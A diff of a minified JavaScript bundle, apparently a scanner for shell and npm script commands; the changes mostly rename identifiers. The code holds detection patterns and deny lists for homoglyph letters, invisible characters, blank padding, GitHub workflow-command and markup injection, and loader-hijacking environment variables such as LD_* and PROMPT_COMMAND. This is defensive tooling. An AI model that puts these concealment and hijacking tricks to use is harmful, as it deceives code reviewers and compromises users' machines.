-"npm-script-missing":"warning","npm-script-text":"warning","workspaces-changed":"warning"};function be(t,e,n,s=ix(t)){return{
-rule:t,args:n,span:e,severity:s}}function ix(t){return t in Ef?Ef[t]:"error"}function xn(t,e){return t.rule===e}function kf(t){
+"npm-script-missing":"warning","npm-script-text":"warning","workspaces-changed":"warning"};function be(t,e,n,s=nx(t)){return{
+rule:t,args:n,span:e,severity:s}}function nx(t){return t in Ef?Ef[t]:"error"}function xn(t,e){return t.rule===e}function kf(t){
 return t.split(/\s+/).flatMap(([e="",...n])=>n.map(s=>[s,e]))}const vf=new Map(kf(`a\u0430\u0251\u03B1 b\u042C\u0185 c\u0441\u03F2\u217D d\u0501\u0257 e\u0435\u04BD f\u0192 g\u0261\u0581 h\u04BB\u0570 i\u0456\u0131\u03B9\
 \u0269 j\u0458\u03F3 k\u03BA\u043A l\u04CF\u01C0 m\u043C n\u043F\u0578\u03B7 o\u043E\u03BF\u0585 p\u0440\u03C1 q\u051B\u0566 r\u0433 s\u0455 t\u0442\u03C4
    u\u057D\u03C5 v\u03BD\u0475 w\u051D\u03C9 x\u0445\u03C7 y\u0443\u03B3 z\u1D22 A\u0410\u0391 B\u0412\u0392 C\u0421\u03F9 E\u0415\u0395 H\u041D\u0397 I\u0406\u0399\u04C0 J\u0408 K\u041A\u039A M\u041C\u039C N\u039D O\u041E\u039F P\u0420\u03A1 S\u0405 T\u0422\u03A4 X\u0425\u03A7 Y\u04AE\u03A5
    Z\u0396\u13C3 A\u13AA B\u13F4 C\u13DF D\u13A0 E\u13AC G\u050C\u13C0 H\u13BB J\u13AB K\u13E6 L\u13DE M\u13B7 P\u13E2 R\u13A1 S\u13DA T\u13A2 V\u13D9\u0474 W\u13B3\u051C Y\u13A9 Q\u051A`));
-function Df(t){return[...t].map(e=>vf.get(e)??e).join("")}const ox=new Map([...[...vf].filter(([,t])=>t===t.toLowerCase()),
+function Df(t){return[...t].map(e=>vf.get(e)??e).join("")}const sx=new Map([...[...vf].filter(([,t])=>t===t.toLowerCase()),
 ...kf("a\xAA b\u044C c\u1D04 e\u0454\u212F\u212E\u025B g\u01E5\u018D i\u04CF k\u1D0B l\u217C| m\u1D0D n\u057C o\u03C3 r\u1D26 s\uA731 t\u1D1B u\u0446\u028B v\u1D20 w\u0448\u0461 y\u04AF\u028F -\u2010\u2011\u2012\u2013\u2014\u2015\u2212\u2043\u02D7\uFE58 .\u2024\u3002 /\u2044\u2215")]);
-function Tz(t){return[...t.normalize("NFKD").toLowerCase().normalize("NFKD").replace(/[\p{Mark}\p{Default_Ignorable_Code_Point}\p{Control}\p{Format}]/gu,
-"")].map(n=>ox.get(n)??n).join("")}const ax=/^[\p{Cf}\p{Co}\p{Cn}\p{Z}\p{Default_Ignorable_Code_Point}]$/u;function xf(t){
+function _z(t){return[...t.normalize("NFKD").toLowerCase().normalize("NFKD").replace(/[\p{Mark}\p{Default_Ignorable_Code_Point}\p{Control}\p{Format}]/gu,
+"")].map(n=>sx.get(n)??n).join("")}const rx=/^[\p{Cf}\p{Co}\p{Cn}\p{Z}\p{Default_Ignorable_Code_Point}]$/u;function xf(t){
 if(t>=32&&t<127||t===9)return"visible";if(t===0)return"nul-character";if(t===10||t===13)return"line-break";if(t<160||t>=
-55296&&t<=57343)return"control-character";const e=String.fromCodePoint(t);return ax.test(e)?"invisible-character":"visib\
+55296&&t<=57343)return"control-character";const e=String.fromCodePoint(t);return rx.test(e)?"invisible-character":"visib\
 le"}function ga(t){return`U+${t.toString(16).toUpperCase().padStart(4,"0")}`}function $t(t,e=120){const n=t.length>e?`${t.
 slice(0,e)}\u2026`:t;let s="";for(const r of n){const i=r.codePointAt(0)??0,o=i!==9&&xf(i)==="visible";s+=o?r:`<${ga(i)}\
->`}return s}function Gn(t,e,n,s){let r=e;for(const i of t)cx(i,r,n,s),r+=i.length}function cx(t,e,n,s){const r=t.codePointAt(
+>`}return s}function Gn(t,e,n,s){let r=e;for(const i of t)ix(i,r,n,s),r+=i.length}function ix(t,e,n,s){const r=t.codePointAt(
 0)??0,i={start:e,end:e+t.length},o=ga(r),a=xf(r);if(a==="line-break"?s.add(a,i,{character:o,quoted:n}):a!=="visible"&&s.
 add(a,i,{character:o}),a!=="visible"||r<=126)return;const c=t.normalize("NFKC");c!==t.normalize("NFC")||/[\0-\x7f]/.test(
 c)?s.add("look-alike-letters",i,{word:t,looks_like:c,characters:[o]}):n||s.add("non-ascii-unquoted",i,{character:o,shown:t})}
-const ux=/\p{L}+/gu;function lx(t,e,n,s){if(/^[\x00-\x7f]*$/.test(t)||!n&&/\s/.test(t))return;const r=n?dx(t):Bx(t);if(r===
+const ox=/\p{L}+/gu;function ax(t,e,n,s){if(/^[\x00-\x7f]*$/.test(t)||!n&&/\s/.test(t))return;const r=n?cx(t):ux(t);if(r===
 void 0)return;const i=[...new Set(t)].filter(o=>o>"\x7F");s.add("look-alike-letters",{start:e.start,end:e.end},{word:$t(
-t),looks_like:$t(r),characters:i.slice(0,10).map(o=>ga(o.codePointAt(0)??0))})}function dx(t){const e=t.normalize("NFKD").
-replace(/\p{M}/gu,""),n=Df(e);return/^[\x20-\x7e]+$/.test(n)?n:void 0}function Bx(t){let e=!1;const n=t.replace(ux,s=>{const r=Df(
-s);return r===s||!/[A-Za-z]/.test(s)?s:(e=!0,r)});return e?n:void 0}const fx=100,hx=1e3;function px(t,e){let n=0,s=0;for(let r=0;r<=
-t.length;r+=1){const i=t.charAt(r);if(i===" "||i==="	")continue;const o=r-s;if(o>1&&(n+=o-1),o>=fx||n>=hx){const a=Math.
-max(o,n);e.add("blank-padding",{start:s,end:r},{blanks:a});return}s=r+1}}const mx=/##\[|(?<!\w)::(?:set-output|set-env|save-state|add-path|add-mask|add-matcher|remove-matcher|debug|notice|warning|error|group|endgroup|stop-commands|echo|internal-set-repo-path)(?: |::)/i,
-gx=/<!--|```/;function Ca(t,e,n){const s=({index:o,0:a})=>n??{start:o,end:o+a.length},r=mx.exec(t);r&&e.add("workflow-co\
-mmand",s(r),{written:$t(r[0])});const i=gx.exec(t);i&&e.add("markup-injection",s(i),{written:i[0]})}const Cx=`
+t),looks_like:$t(r),characters:i.slice(0,10).map(o=>ga(o.codePointAt(0)??0))})}function cx(t){const e=t.normalize("NFKD").
+replace(/\p{M}/gu,""),n=Df(e);return/^[\x20-\x7e]+$/.test(n)?n:void 0}function ux(t){let e=!1;const n=t.replace(ox,s=>{const r=Df(
+s);return r===s||!/[A-Za-z]/.test(s)?s:(e=!0,r)});return e?n:void 0}const lx=100,dx=1e3;function Bx(t,e){let n=0,s=0;for(let r=0;r<=
+t.length;r+=1){const i=t.charAt(r);if(i===" "||i==="	")continue;const o=r-s;if(o>1&&(n+=o-1),o>=lx||n>=dx){const a=Math.
+max(o,n);e.add("blank-padding",{start:s,end:r},{blanks:a});return}s=r+1}}const fx=/##\[|(?<!\w)::(?:set-output|set-env|save-state|add-path|add-mask|add-matcher|remove-matcher|debug|notice|warning|error|group|endgroup|stop-commands|echo|internal-set-repo-path)(?: |::)/i,
+hx=/<!--|```/;function Ca(t,e,n){const s=({index:o,0:a})=>n??{start:o,end:o+a.length},r=fx.exec(t);r&&e.add("workflow-co\
+mmand",s(r),{written:$t(r[0])});const i=hx.exec(t);i&&e.add("markup-injection",s(i),{written:i[0]})}const px=`
   BASH_~ BASHOPTS ENV HOME IFS PATH PROMPT_COMMAND PS4 SHELLOPTS XDG_CONFIG_HOME ZDOTDIR
   DYLD_~ GLIBC_~ LD_~ LIBRARY_~ MALLOC_~
   C8_~ COVERAGE_~ ELECTRON_~ INIT_CWD MOCHA_OPTIONS AVA_~ NODE NODE_~ NVM_~ NYC_~
@@ -3933,76 +3933,76 @@ mmand",s(r),{written:$t(r[0])});const i=gx.exec(t);i&&e.add("markup-injection",s
   CMAKE_~ COMPLUS_~ CORECLR_~ DOTNET_~ GCC_~ GNUMAKEFLAGS MAKE~ MSBUILD_~
   GIT_~
   BROWSER_ARGS DOCKER_~ EDITOR_~ OPENSSL_~ SSH_~ SSL_~ SUDO_~ XDG_~
-`.match(/\S+/g),yx=new RegExp(`^(?:${Cx.join("|").replaceAll("~",".*")}|[A-Z]+_INCLUDE_PATH)$`,"s");function wx(t){return yx.
-test(t)}function Qr(t){const[e]=t.parts;return t.parts.length===1&&e?e.text:t.parts.map(n=>n.text).join("")}function bx(t){
+`.match(/\S+/g),mx=new RegExp(`^(?:${px.join("|").replaceAll("~",".*")}|[A-Z]+_INCLUDE_PATH)$`,"s");function gx(t){return mx.
+test(t)}function Xr(t){const[e]=t.parts;return t.parts.length===1&&e?e.text:t.parts.map(n=>n.text).join("")}function Cx(t){
 const[e]=t.parts;return t.parts.length===1&&e&&!e.quoted?e.text:void 0}class Of{#e=[];#t=new Set;add(e,n,s){const r=be(e,
 n,s);if(r.severity==="error"){if(this.#t.has(e))return;this.#t.add(e)}this.#e.push(r)}inOrder(){const e=({rule:n})=>this.#t.
-has(n)?0:1;return this.#e.sort((n,s)=>n.span.start-s.span.start||e(n)-e(s))}}const Ws=/^[\w.-]{0,64}$/,Af=/^(?:C|POSIX|(?:C|[a-z]{2,3}_[A-Z]{2})\.(?:UTF-8|utf8))$/,
-_x=/^(?:\.\/)?(?:[\w-][\w.-]*\/)*[\w-][\w.-]*\.json$/,Ex=/^\d{1,9}$/,Hn=/^(?:|[01]|true|false|yes|no|on|off)$/i,Sf=new Map(
-[["NODE_ENV",Ws],["CI",Ws],["FORCE_COLOR",Ws],["NO_COLOR",Ws],["DEBUG",/^[\w.:*,@/-]{0,256}$/],["TZ",/^[A-Za-z](?:[\w+-]|\/(?=[A-Za-z])){0,63}$/],
+has(n)?0:1;return this.#e.sort((n,s)=>n.span.start-s.span.start||e(n)-e(s))}}const Zs=/^[\w.-]{0,64}$/,Af=/^(?:C|POSIX|(?:C|[a-z]{2,3}_[A-Z]{2})\.(?:UTF-8|utf8))$/,
+yx=/^(?:\.\/)?(?:[\w-][\w.-]*\/)*[\w-][\w.-]*\.json$/,wx=/^\d{1,9}$/,Hn=/^(?:|[01]|true|false|yes|no|on|off)$/i,Sf=new Map(
+[["NODE_ENV",Zs],["CI",Zs],["FORCE_COLOR",Zs],["NO_COLOR",Zs],["DEBUG",/^[\w.:*,@/-]{0,256}$/],["TZ",/^[A-Za-z](?:[\w+-]|\/(?=[A-Za-z])){0,63}$/],
 ["LANG",Af],["LC_ALL",Af],["NODE_NO_WARNINGS",Hn],["PYTHONDONTWRITEBYTECODE",Hn],["PYTHONUNBUFFERED",Hn],["PYTHONHASHSEE\
 D",/^(?:random|\d{1,9})$/],["RUST_BACKTRACE",/^(?:[01]|full)$/],["RUSTFLAGS",/^-D ?warnings$/],["RUSTDOCFLAGS",/^-D ?warnings$/],
-["NODE_DEBUG",/^[\w,*:-]{0,256}$/],["UV_THREADPOOL_SIZE",/^\d{1,4}$/],["TS_NODE_PROJECT",_x],["TS_NODE_TRANSPILE_ONLY",Hn],
-["TS_NODE_FILES",Hn],["TS_NODE_SKIP_PROJECT",Hn]]),kx=[[/(?:^|_)(?:HOST|HOSTNAME)$/,/^(?:localhost|127\.0\.0\.1|0\.0\.0\.0|::1?)$/],
-[/(?:_ENV|(?:^|_)(?:LOG_?LEVEL|MODE|NAME|STAGE|SUITE|TEST))$/,Ws]],Tf="NODE_OPTIONS",vx=/^--(?:(?:no-)?(?:warnings|deprecation|experimental-(?:abortcontroller|detect-module|eventsource|fetch|global-navigator|global-webcrypto|require-module|sqlite|strip-types|test-coverage|test-module-mocks|test-snapshots|transform-types|vm-modules|websocket|worker)|network-family-autoselection|strip-types)|enable-source-maps|expose-gc|frozen-intrinsics|pending-deprecation|throw-deprecation|trace-(?:deprecation|exit|uncaught|warnings)|unhandled-rejections=(?:strict|throw)|test-(?:concurrency|timeout)=\d+|disable-warning=\w+|dns-result-order=(?:ipv4first|ipv6first|verbatim)|max-(?:old|semi)-space-size=\d+|max-http-header-size=\d+|stack-trace-limit=\d+)$/;
-function If(t){return t.split(" ").every(e=>vx.test(e.replaceAll("_","-")))}function ei(t,e){if(t===Tf)return If(e);const n=Sf.
-get(t);return n!==void 0?n.test(e):$f(t)?kx.some(([r,i])=>r.test(t)&&i.test(e))||Hn.test(e)||Ex.test(e):!1}const Dx=/^(?:CONCURRENCY|COVERAGE|E2E|FAST|HOST|HOSTNAME|LOGLEVEL|MODE|OFFLINE|PORT|QUIET|RETRIES|SEED|SILENT|SKIP|SLOW|STAGE|TEST|TIMEOUT|VERBOSE|WORKERS)$/;
-function $f(t){return/^[A-Z][A-Z\d]*(?:_[A-Z\d]+)+$/.test(t)?!wx(t):Dx.test(t)}function xx(t){return t===Tf||Sf.has(t)||
-$f(t)}const Ox=/^([A-Za-z_][A-Za-z0-9_]*)(\+?)=/;function Ax(t,e){const n=[],s=[];let r=0;for(const i of t){const[o]=i.parts,
-a=o&&!o.quoted?Ox.exec(o.text):null;if(!a)break;r+=1;const[c,l="",u]=a,d=Qr(i).slice(c.length),B={start:i.start,end:i.end};
-if(!u&&ei(l,d))n.push({name:l,value:d,span:B}),e.add("environment-assignment",B,{name:l,value:$t(d)});else{const f=!u&&xx(
+["NODE_DEBUG",/^[\w,*:-]{0,256}$/],["UV_THREADPOOL_SIZE",/^\d{1,4}$/],["TS_NODE_PROJECT",yx],["TS_NODE_TRANSPILE_ONLY",Hn],
+["TS_NODE_FILES",Hn],["TS_NODE_SKIP_PROJECT",Hn]]),bx=[[/(?:^|_)(?:HOST|HOSTNAME)$/,/^(?:localhost|127\.0\.0\.1|0\.0\.0\.0|::1?)$/],
+[/(?:_ENV|(?:^|_)(?:LOG_?LEVEL|MODE|NAME|STAGE|SUITE|TEST))$/,Zs]],Tf="NODE_OPTIONS",_x=/^--(?:(?:no-)?(?:warnings|deprecation|experimental-(?:abortcontroller|detect-module|eventsource|fetch|global-navigator|global-webcrypto|require-module|sqlite|strip-types|test-coverage|test-module-mocks|test-snapshots|transform-types|vm-modules|websocket|worker)|network-family-autoselection|strip-types)|enable-source-maps|expose-gc|frozen-intrinsics|pending-deprecation|throw-deprecation|trace-(?:deprecation|exit|uncaught|warnings)|unhandled-rejections=(?:strict|throw)|test-(?:concurrency|timeout)=\d+|disable-warning=\w+|dns-result-order=(?:ipv4first|ipv6first|verbatim)|max-(?:old|semi)-space-size=\d+|max-http-header-size=\d+|stack-trace-limit=\d+)$/;
+function If(t){return t.split(" ").every(e=>_x.test(e.replaceAll("_","-")))}function Qr(t,e){if(t===Tf)return If(e);const n=Sf.
+get(t);return n!==void 0?n.test(e):$f(t)?bx.some(([r,i])=>r.test(t)&&i.test(e))||Hn.test(e)||wx.test(e):!1}const Ex=/^(?:CONCURRENCY|COVERAGE|E2E|FAST|HOST|HOSTNAME|LOGLEVEL|MODE|OFFLINE|PORT|QUIET|RETRIES|SEED|SILENT|SKIP|SLOW|STAGE|TEST|TIMEOUT|VERBOSE|WORKERS)$/;
+function $f(t){return/^[A-Z][A-Z\d]*(?:_[A-Z\d]+)+$/.test(t)?!gx(t):Ex.test(t)}function kx(t){return t===Tf||Sf.has(t)||
+$f(t)}const vx=/^([A-Za-z_][A-Za-z0-9_]*)(\+?)=/;function Dx(t,e){const n=[],s=[];let r=0;for(const i of t){const[o]=i.parts,
+a=o&&!o.quoted?vx.exec(o.text):null;if(!a)break;r+=1;const[c,l="",u]=a,d=Xr(i).slice(c.length),B={start:i.start,end:i.end};
+if(!u&&Qr(l,d))n.push({name:l,value:d,span:B}),e.add("environment-assignment",B,{name:l,value:$t(d)});else{const f=!u&&kx(
 l);e.add("assignment-refused",B,{name:l,value:$t(d),known:f}),u||s.push({name:l,value:d,span:B})}}return{assignments:n,refused:s,
-count:r}}function Sx(t){if(!t.parts.some(a=>!a.quoted&&/[*?[]/.test(a.text)))return;const e=t.parts.flatMap(({text:a,quoted:c})=>Array.
+count:r}}function xx(t){if(!t.parts.some(a=>!a.quoted&&/[*?[]/.test(a.text)))return;const e=t.parts.flatMap(({text:a,quoted:c})=>Array.
 from(a,l=>({character:l,active:!c}))),n=e.findLastIndex(({character:a,active:c})=>c&&a==="]"),s=[];let r,i;for(let a=0;a<
-e.length;){const c=Tx(e,a,n);c?(r??=Nf(s),i??=c.ambiguity,c.element.kind==="many"&&s.at(-1)?.kind==="many"||s.push(c.element),
+e.length;){const c=Ox(e,a,n);c?(r??=Rf(s),i??=c.ambiguity,c.element.kind==="many"&&s.at(-1)?.kind==="many"||s.push(c.element),
 a=c.end):(s.push({kind:"literal",character:e[a]?.character??""}),a+=1)}return r===void 0?void 0:{text:e.map(({character:a})=>a).
-join(""),prefix:r,segments:Rx(s),...i&&{ambiguity:i}}}function Tx(t,e,n){const s=t[e];return s?.active?s.character==="*"?
-{element:{kind:"many"},end:e+1}:s.character==="?"?{element:{kind:"one"},end:e+1}:s.character!=="["||n<e?void 0:Ix(t,e)??
-{element:{kind:"one"},end:e+1,ambiguity:"bracket"}:void 0}function Ix(t,e){let n=e+1;const s=ti(t[n],"!");s&&(n+=1);const r=new Set;
-for(;!ti(t[n],"]");){const i=Rf(t[n]);if(i===void 0)return;const o=ti(t[n+1],"-")?Rf(t[n+2]):i;if(o===void 0||!$x(i,o))return;
-n+=ti(t[n+1],"-")?3:1;for(let a=i.charCodeAt(0);a<=o.charCodeAt(0);a+=1)r.add(String.fromCharCode(a))}if(r.size!==0)return{
-element:{kind:"set",negated:s,members:r},end:n+1}}function ti(t,e){return t?.active===!0&&t.character===e}function Rf(t){
-return t&&/^[A-Za-z0-9_.,@%+]$/.test(t.character)?t.character:void 0}function $x(t,e){if(t===e)return!0;const n=[/[a-z]/,
-/[A-Z]/,/[0-9]/];return t<e&&n.some(s=>s.test(t)&&s.test(e))}function Nf(t){return t.map(e=>e.kind==="literal"?e.character:
-"").join("")}function Rx(t){const e=[[]];for(const n of t)n.kind==="literal"&&n.character==="/"?e.push([]):e.at(-1)?.push(
-n);return e}function ya(t){return t.every(({kind:e})=>e==="literal")?Nf(t):void 0}const Ff=t=>Array.from(t),Nx=t=>Array.
+join(""),prefix:r,segments:Tx(s),...i&&{ambiguity:i}}}function Ox(t,e,n){const s=t[e];return s?.active?s.character==="*"?
+{element:{kind:"many"},end:e+1}:s.character==="?"?{element:{kind:"one"},end:e+1}:s.character!=="["||n<e?void 0:Ax(t,e)??
+{element:{kind:"one"},end:e+1,ambiguity:"bracket"}:void 0}function Ax(t,e){let n=e+1;const s=ei(t[n],"!");s&&(n+=1);const r=new Set;
+for(;!ei(t[n],"]");){const i=Nf(t[n]);if(i===void 0)return;const o=ei(t[n+1],"-")?Nf(t[n+2]):i;if(o===void 0||!Sx(i,o))return;
+n+=ei(t[n+1],"-")?3:1;for(let a=i.charCodeAt(0);a<=o.charCodeAt(0);a+=1)r.add(String.fromCharCode(a))}if(r.size!==0)return{
+element:{kind:"set",negated:s,members:r},end:n+1}}function ei(t,e){return t?.active===!0&&t.character===e}function Nf(t){
+return t&&/^[A-Za-z0-9_.,@%+]$/.test(t.character)?t.character:void 0}function Sx(t,e){if(t===e)return!0;const n=[/[a-z]/,
+/[A-Z]/,/[0-9]/];return t<e&&n.some(s=>s.test(t)&&s.test(e))}function Rf(t){return t.map(e=>e.kind==="literal"?e.character:
+"").join("")}function Tx(t){const e=[[]];for(const n of t)n.kind==="literal"&&n.character==="/"?e.push([]):e.at(-1)?.push(
+n);return e}function ya(t){return t.every(({kind:e})=>e==="literal")?Rf(t):void 0}const Ff=t=>Array.from(t),Ix=t=>Array.
 from(Buffer.from(t).toString("latin1"));function Lf(t,e){const[n]=t;if(e.startsWith(".")&&!(n?.kind==="literal"&&n.character===
-"."))return!1;const s=wa(t,e,Ff);return/^[\x20-\x7e]*$/.test(e)||s===wa(t,e,Nx)?s:void 0}function Fx(t,e){const n=Array.
+"."))return!1;const s=wa(t,e,Ff);return/^[\x20-\x7e]*$/.test(e)||s===wa(t,e,Ix)?s:void 0}function $x(t,e){const n=Array.
 from(e,s=>s==="*"?{kind:"many"}:{kind:"literal",character:s});return wa(n,t,Ff)}function wa(t,e,n){const s=t.flatMap(c=>c.
 kind==="literal"?n(c.character).map(l=>({kind:"literal",character:l})):c),r=n(e);let i=0,o=-1,a=0;for(let c=0;c<r.length;)
-if(s[i]?.kind==="many")o=i,a=c,i+=1;else if(Lx(s[i],r[c]))i+=1,c+=1;else if(o>=0)i=o+1,a+=1,c=a;else return!1;return s.slice(
-i).every(({kind:c})=>c==="many")}function Lx(t,e=""){return t?.kind==="literal"?t.character===e:t?.kind==="set"?t.members.
-has(e)!==t.negated:t?.kind==="one"}const Px=20,jx=4096,Pf=64;function Mx(t,e,n){const{pattern:s,span:r,position:i}=t,o=$t(
-s.text),a=zx(s);let c=[];if(i==="program")n.add("glob-unclear",r,{pattern:o,reason:"program"});else if(Ux(s))n.add("glob\
--unclear",r,{pattern:o,reason:"outside"});else if(!Hx(s,e))if(a)n.add("glob-unclear",r,{pattern:o,reason:a});else if(Jx(
-s))n.add("glob-unclear",r,{pattern:o,reason:"flag"});else if(e)c=Gx(t,e,n);else if(i==="script"&&Zx(s))n.add("glob-uncle\
+if(s[i]?.kind==="many")o=i,a=c,i+=1;else if(Nx(s[i],r[c]))i+=1,c+=1;else if(o>=0)i=o+1,a+=1,c=a;else return!1;return s.slice(
+i).every(({kind:c})=>c==="many")}function Nx(t,e=""){return t?.kind==="literal"?t.character===e:t?.kind==="set"?t.members.
+has(e)!==t.negated:t?.kind==="one"}const Rx=20,Fx=4096,Pf=64;function Lx(t,e,n){const{pattern:s,span:r,position:i}=t,o=$t(
+s.text),a=Mx(s);let c=[];if(i==="program")n.add("glob-unclear",r,{pattern:o,reason:"program"});else if(Gx(s))n.add("glob\
+-unclear",r,{pattern:o,reason:"outside"});else if(!jx(s,e))if(a)n.add("glob-unclear",r,{pattern:o,reason:a});else if(Hx(
+s))n.add("glob-unclear",r,{pattern:o,reason:"flag"});else if(e)c=Px(t,e,n);else if(i==="script"&&zx(s))n.add("glob-uncle\
 ar",r,{pattern:o,reason:"program"});else{const l={matches:[],count:0,judged:!1};n.add("unquoted-glob",r,{pattern:o,...l})}
-return c.length===0?[s.text]:c}function Gx({pattern:t,span:e,position:n},s,r){const i=$t(t.text),o=qx(t,s),a="matches"in
-o&&!o.matches.every(Kx);if("ambiguity"in o||a){const d="ambiguity"in o?o.ambiguity:"file_name";return r.add("glob-unclea\
+return c.length===0?[s.text]:c}function Px({pattern:t,span:e,position:n},s,r){const i=$t(t.text),o=Zx(t,s),a="matches"in
+o&&!o.matches.every(Ux);if("ambiguity"in o||a){const d="ambiguity"in o?o.ambiguity:"file_name";return r.add("glob-unclea\
 r",e,{pattern:i,reason:d}),[]}const{matches:c}=o;c.some(d=>d.startsWith("-"))&&r.add("glob-unclear",e,{pattern:i,reason:"\
-flag"}),n==="script"&&c.length>1&&r.add("glob-unclear",e,{pattern:i,reason:"program"});const l=c.slice(0,Px).map(d=>$t(d)),
-{length:u}=c;return r.add("unquoted-glob",e,{pattern:i,matches:l,count:u,judged:!0}),c}function Hx({prefix:t,text:e},n){
-return t.includes("://")&&!n?.stat(e.slice(0,e.indexOf("/")))}function zx({text:t,segments:e,ambiguity:n}){return n||(t.
-length>jx?"too_many":e.some(r=>ya(r)===void 0&&Lf(r,".."))?"dot":void 0)}function Ux({text:t,segments:e}){return t.startsWith(
-"/")||e.some(n=>ya(n)==="..")}function Jx({prefix:t}){return t.startsWith("-")&&!t.includes("=")}function Zx({segments:t}){
-return t.some(e=>e.some(({kind:n})=>n==="many"))}function Kx(t){const e=new Of;return Gn(t,0,!0,e),e.inOrder().length===
-0}const Wx=128*1024;function qx(t,e){let n=[{written:"",path:""}];for(const[i,o]of t.segments.entries()){const a=i===t.segments.
-length-1,c=[];for(const l of n){const u=Vx(l,o,a,e);if(typeof u=="string")return{ambiguity:u};c.push(...u)}n=c}const s=n.
-map(({written:i})=>Buffer.from(i));return s.reduce((i,o)=>i+o.length+1,0)>Wx?{ambiguity:"too_many"}:{matches:s.sort(Buffer.
-compare).map(i=>i.toString())}}function Vx(t,e,n,s){const{written:r,path:i}=t,o=ya(e);if(o==="")return n?[t]:"empty_segm\
-ent";const a=n?"":"/";if(o===".")return[{written:`${r}.${a}`,path:i}];const c=[];for(const l of Yx(i,e,o,s)){if(l==="let\
-ters")return"letters";if(!n&&Xx(l,s))return"symlink";!n&&l.kind!=="directory"||c.push({written:`${r}${te.posix.basename(
-l.path)}${a}`,path:l.path})}return c}function*Yx(t,e,n,s){if(n!==void 0){const r=s.stat(t===""?n:`${t}/${n}`);r?.tracked&&
+flag"}),n==="script"&&c.length>1&&r.add("glob-unclear",e,{pattern:i,reason:"program"});const l=c.slice(0,Rx).map(d=>$t(d)),
+{length:u}=c;return r.add("unquoted-glob",e,{pattern:i,matches:l,count:u,judged:!0}),c}function jx({prefix:t,text:e},n){
+return t.includes("://")&&!n?.stat(e.slice(0,e.indexOf("/")))}function Mx({text:t,segments:e,ambiguity:n}){return n||(t.
+length>Fx?"too_many":e.some(r=>ya(r)===void 0&&Lf(r,".."))?"dot":void 0)}function Gx({text:t,segments:e}){return t.startsWith(
+"/")||e.some(n=>ya(n)==="..")}function Hx({prefix:t}){return t.startsWith("-")&&!t.includes("=")}function zx({segments:t}){
+return t.some(e=>e.some(({kind:n})=>n==="many"))}function Ux(t){const e=new Of;return Gn(t,0,!0,e),e.inOrder().length===
+0}const Jx=128*1024;function Zx(t,e){let n=[{written:"",path:""}];for(const[i,o]of t.segments.entries()){const a=i===t.segments.
+length-1,c=[];for(const l of n){const u=Kx(l,o,a,e);if(typeof u=="string")return{ambiguity:u};c.push(...u)}n=c}const s=n.
+map(({written:i})=>Buffer.from(i));return s.reduce((i,o)=>i+o.length+1,0)>Jx?{ambiguity:"too_many"}:{matches:s.sort(Buffer.
+compare).map(i=>i.toString())}}function Kx(t,e,n,s){const{written:r,path:i}=t,o=ya(e);if(o==="")return n?[t]:"empty_segm\
+ent";const a=n?"":"/";if(o===".")return[{written:`${r}.${a}`,path:i}];const c=[];for(const l of Wx(i,e,o,s)){if(l==="let\
+ters")return"letters";if(!n&&qx(l,s))return"symlink";!n&&l.kind!=="directory"||c.push({written:`${r}${te.posix.basename(
+l.path)}${a}`,path:l.path})}return c}function*Wx(t,e,n,s){if(n!==void 0){const r=s.stat(t===""?n:`${t}/${n}`);r?.tracked&&
 (yield r);return}for(const r of s.list(t)){if(!r.tracked)continue;const i=Lf(e,te.posix.basename(r.path));i===void 0?yield"\
-letters":i&&(yield r)}}function Xx(t,e){if(t.kind!=="symlink")return t.kind==="submodule";const n=Je(e,t.path);return n.
+letters":i&&(yield r)}}function qx(t,e){if(t.kind!=="symlink")return t.kind==="submodule";const n=Je(e,t.path);return n.
 kind==="missing"?!1:n.kind!=="inside"||!/^(?:file|executable)$/.test(n.entry.kind)}const jf=1e3,Mf=/[ \t\n\r'"\\$`;&|<>()]/g;
-function Qx(t,e){return new eO(t,e).split()}class eO{#e;#t;#s=[];#i=[];#r=0;#n=0;#c=0;constructor(e,n){this.#e=e,this.#t=
+function Vx(t,e){return new Yx(t,e).split()}class Yx{#e;#t;#s=[];#i=[];#r=0;#n=0;#c=0;constructor(e,n){this.#e=e,this.#t=
 n}split(){for(;this.#n<this.#e.length;)this.#u();if(this.#a(),this.#c>jf){const e={start:0,end:this.#e.length};this.#t.add(
 "command-too-long",e,{more:`${jf} quoted parts`})}return this.#s}#u(){switch(this.#e.charAt(this.#n)){case" ":case"	":this.#a(),
 this.#n+=1;break;case`
 `:case"\r":this.#a(),Gn(this.#e.charAt(this.#n),this.#n,!1,this.#t),this.#n+=1;break;case"'":this.#p();break;case'"':this.#h();
 break;case"\\":this.#m();break;case"$":this.#l(!1);break;case"`":this.#g(!1);break;case";":case"&":case"|":case"<":case"\
->":case"(":case")":this.#a(),this.#n=oO(this.#e,this.#n,this.#t);break;case"#":this.#i.length===0?this.#y():this.#B();break;default:
+>":case"(":case")":this.#a(),this.#n=sO(this.#e,this.#n,this.#t);break;case"#":this.#i.length===0?this.#y():this.#B();break;default:
 this.#B()}}#o(e,n,s,r=s){this.#i.length===0&&(this.#r=r),this.#i.push({text:e,quoted:n,start:s})}#a(){this.#i.length!==0&&
 (this.#s.push({parts:this.#i,start:this.#r,end:this.#n}),this.#i=[])}#B(){const e=this.#n;Mf.lastIndex=e+1;const n=Mf.exec(
 this.#e)?.index??this.#e.length,s=this.#e.slice(e,n);Gn(s,e,!1,this.#t),this.#o(s,!1,e),this.#n=n}#p(){const e=this.#n,n=this.#e.
@@ -4015,59 +4015,59 @@ min(n+1,this.#e.length),!(n<this.#e.length)&&this.#t.add("unterminated-quote",{s
 n=this.#e.charAt(e+1);this.#n+=1,n===""?(this.#t.add("unterminated-quote",{start:e,end:e+1},{quote:"\\"}),this.#o("\\",!0,
 e)):n===`
 `?(this.#n=e,this.#f(),this.#n+=2):n>"\x7F"?this.#o("",!0,e+1,e):(Gn(n,e+1,!0,this.#t),this.#o(n,!0,e+1,e),this.#n+=1)}#f(){
-this.#t.add("line-continuation",{start:this.#n,end:this.#n+2},{})}#l(e){const n=rO(this.#e,this.#n,e);n?this.#C(n.kind,n.
-end,e):(e||this.#o("$",!1,this.#n),this.#n+=1)}#g(e){const n=iO(this.#e,this.#n);this.#C("command-substitution",n,e)}#C(e,n,s){
+this.#t.add("line-continuation",{start:this.#n,end:this.#n+2},{})}#l(e){const n=tO(this.#e,this.#n,e);n?this.#C(n.kind,n.
+end,e):(e||this.#o("$",!1,this.#n),this.#n+=1)}#g(e){const n=nO(this.#e,this.#n);this.#C("command-substitution",n,e)}#C(e,n,s){
